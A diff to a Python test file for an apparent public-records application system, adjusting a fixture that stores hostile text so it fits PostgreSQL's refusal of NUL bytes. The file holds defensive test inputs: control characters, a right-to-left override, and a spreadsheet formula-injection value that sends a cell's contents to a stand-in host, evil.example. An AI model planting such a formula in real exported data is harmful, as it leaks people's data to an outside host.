@@ -17,6 +17,8 @@ from xxgk.middleware import CleanInputMiddleware
 from xxgk.rules.applications import Action
 
 HOSTILE = "张\x00三\x0b\u202e丰\x1b"
+# What a database can hold: PostgreSQL refuses NUL in text outright, the other controls it stores.
+STORABLE = HOSTILE.replace("\x00", "")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
@@ -41,11 +43,13 @@ def test_every_submitted_value_is_cleaned_at_the_boundary():
 def stored_hostile_case(office):
     """Text stored before the boundary existed, or by a path that skips it: writers must cope."""
     agency, p = office
-    fields = {"applicant_kind": "natural", "applicant_name": FORMULA, "sought": HOSTILE}
+    fields = {"applicant_kind": "natural", "applicant_name": FORMULA, "sought": STORABLE}
     app = register(agency, p["clerk"], fields, channel="in_person", received=date(2026, 3, 2)).application
-    Application.objects.filter(pk=app.pk).update(applicant_name=HOSTILE, sought=FORMULA)
+    Application.objects.filter(pk=app.pk).update(applicant_name=STORABLE, sought=FORMULA)
     app.refresh_from_db()
-    act(app, Action.DRAFT_ANSWER, p["clerk"], result="granted", on_date=date(2026, 3, 3), answer_text=HOSTILE)
+    act(
+        app, Action.DRAFT_ANSWER, p["clerk"], result="granted", on_date=date(2026, 3, 3), answer_text=STORABLE
+    )
     app.refresh_from_db()
     return agency, p, app
 
